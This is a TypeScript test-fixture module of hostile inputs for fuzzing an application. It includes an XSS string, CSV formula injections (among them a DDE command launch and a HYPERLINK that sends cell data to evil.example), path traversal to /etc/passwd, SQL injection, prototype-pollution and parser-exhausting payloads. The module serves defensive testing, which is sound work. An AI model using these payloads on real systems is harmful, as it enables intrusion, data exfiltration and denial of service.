/** What no person means and every machine must bear. */

/** Short enough for any text, and does harm wherever it is taken for more than a text. */
export const harmful = `<script>a()</script>'"\\&amp;\${0}%_\u202Eab\u202C💪🏾ብርቱ`;

export const hostileTexts: Readonly<Record<string, string>> = {
  harmful,
  empty: '',
  blank: ' \u00a0\u200b\n',
  'with a null character': 'a\0b',
  'with half a character': 'a\ud83d',
  'with the other half': '\udcaaa',
  long: 'long ብርቱ '.repeat(9_000),
};

/** @returns JSON: an object in an object and so on */
const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** What a spreadsheet would begin to calculate, or to fetch. */
export const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"more")',
  '@SUM(1+1)',
  '+1+1',
  '-2+3',
  "'=1+1",
  '  =1+1',
  '\u200B=1+1',
  '\t=1+1',
  '＝1+1',
];

/** In place of any value. */
export const wrongValues: readonly unknown[] = [
  null,
  true,
  7,
  -1.5,
  1e308,
  -(2 ** 60),
  [],
  [[]],
  {},
  { length: 1e9 },
  JSON.parse(nested(200)),
  JSON.parse('{"__proto__": {"role": "admin_super"}, "constructor": {"prototype": {"x": 1}}}'),
];

/** Whole bodies, as they stand on the wire. */
export const hostileBodies: Readonly<Record<string, string>> = {
  'nothing at all': '',
  'cut off': '{"a": "b',
  null: 'null',
  number: '1e400',
  text: JSON.stringify(harmful),
  list: '[1, 2, 3]',
  'deep list': '['.repeat(50_000) + ']'.repeat(50_000),
  'deep object': nested(20_000),
  'keys of the prototype': '{"__proto__": {"a": 1}, "constructor": 1, "toString": 2, "hasOwnProperty": 3}',
  'a million characters': JSON.stringify({ a: 'x'.repeat(1_000_000) }),
  'many keys': JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, n) => [`key${n}`, n]))),
  'keys that are no text': '{"\\u0000": 1, "\\ud800": 2}',
};

/** Parts of addresses, some of which are no text at all. */
export const hostileAddressParts: readonly string[] = [
  ...[
    harmful,
    'a\0b',
    ' \n',
    '\ufffd',
    '..',
    '../../etc/passwd',
    "' or 1=1 --",
    '9'.repeat(400),
    '-1',
    '1e400',
    'NaN',
    '[]',
    '__proto__',
    'constructor',
    'toString',
    'x'.repeat(5_000),
    // Where a page of a list ends, see src/lib/paging.ts.
    '1_abc',
    `1_${'9'.repeat(19)}`,
    `1_${'0'.repeat(64)}`,
  ].map(encodeURIComponent),
  '%ff%fe',
  '%ed%a0%80',
  '%',
  '%zz',
  '%2e%2e%2f',
  '%252e',
];

/** All of it that is a text, whatever it is meant for: for cells of a table. */
export const hostileCells: ReadonlySet<string> = new Set([
  ...Object.values(hostileTexts),
  ...formulas,
  ...wrongValues.map((value) => JSON.stringify(value)),
  ...hostileAddressParts.flatMap((part) => {
    try {
      return [decodeURIComponent(part)];
    } catch {
      return [part];
    }
  }),
]);

type Way = readonly (string | number)[];

/** The ways to each value within a value; of a list only into its first item. */
export function waysInto(value: unknown): Way[] {
  if (typeof value !== 'object' || value === null) return [[]];
  const parts = Array.isArray(value) ? Object.entries(value.slice(0, 1)) : Object.entries(value);
  return [[], ...parts.flatMap(([key, part]) => waysInto(part).map((way) => [key, ...way]))];
}

export const valueAt = (value: unknown, way: Way): unknown =>
  way.reduce<unknown>((part, key) => (part as Record<string, unknown>)[key], value);

/** A copy with another value at the end of a way. */
export function withValue(value: unknown, [key, ...rest]: Way, other: unknown): unknown {
  if (key === undefined) return other;
  const copy = (Array.isArray(value) ? [...value] : { ...(value as object) }) as Record<string, unknown>;
  copy[key] = withValue(copy[key], rest, other);
  return copy;
}

/** Whether a text stands, whole and unchanged, somewhere in a value. */
export function holds(value: unknown, text: string): boolean {
  if (typeof value === 'string') return value === text;
  return (
    typeof value === 'object' && value !== null && Object.values(value).some((part) => holds(part, text))
  );
}
